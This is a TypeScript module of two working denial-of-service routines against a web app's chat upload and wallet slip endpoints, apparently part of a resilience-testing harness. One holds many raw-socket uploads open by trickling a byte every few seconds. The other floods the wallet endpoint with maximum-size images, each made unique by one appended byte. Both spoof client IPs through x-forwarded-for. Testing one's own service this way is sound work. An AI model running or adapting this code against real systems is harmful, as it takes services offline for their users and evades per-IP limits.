import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { repeat, times, type Attack } from './target.ts'

const boundary = 'xyzzy'

/** Two uploads of each member that send a byte every few seconds. */
export const slowUploads: Attack = async (target) => {
  const { hostname, port } = new URL(target.app)
  const sockets = target.members.flatMap(({ token, from }) =>
    times(2, () => {
      const socket = connect({ host: hostname, port: Number(port) }, () =>
        socket.write(
          `POST /api/chat/upload-video HTTP/1.1\r\nhost: house\r\nx-forwarded-for: ${from}\r\nauthorization: Bearer ${token}\r\n` +
            `content-type: multipart/form-data; boundary=${boundary}\r\ncontent-length: 15000000\r\n\r\n` +
            `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="a.mp4"\r\ncontent-type: video/mp4\r\n\r\n`,
        ),
      )
      socket.on('error', () => socket.destroy())
      socket.resume()
      return socket
    }),
  )
  const timer = setInterval(() => {
    for (const socket of sockets) if (!socket.destroyed) socket.write('a')
  }, 3_000)
  await sleep(target.seconds * 1_000)
  clearInterval(timer)
  for (const socket of sockets) socket.destroy()
}

/** Pictures with as many pixels as are allowed and no content, as slips of one member or of each. */
export const noisySlips =
  (picture: () => Promise<Buffer>, perMember: number): Attack =>
  async (target) => {
    const bytes = new Uint8Array(await picture())
    await Promise.all(
      target.members.map(async ({ token, from }) => {
        for (let n = 0; n < perMember; n += 1) {
          const form = new FormData()
          // One byte appended to the picture makes it another file.
          form.set('file', new Blob([bytes, String(n)], { type: 'image/png' }), 'slip.png')
          await fetch(`${target.app}/api/wallet/slip`, {
            method: 'POST',
            body: form,
            headers: { authorization: `Bearer ${token}`, 'x-forwarded-for': from },
          }).catch(() => null)
        }
      }),
    )
    await repeat(target, () => sleep(100))
  }
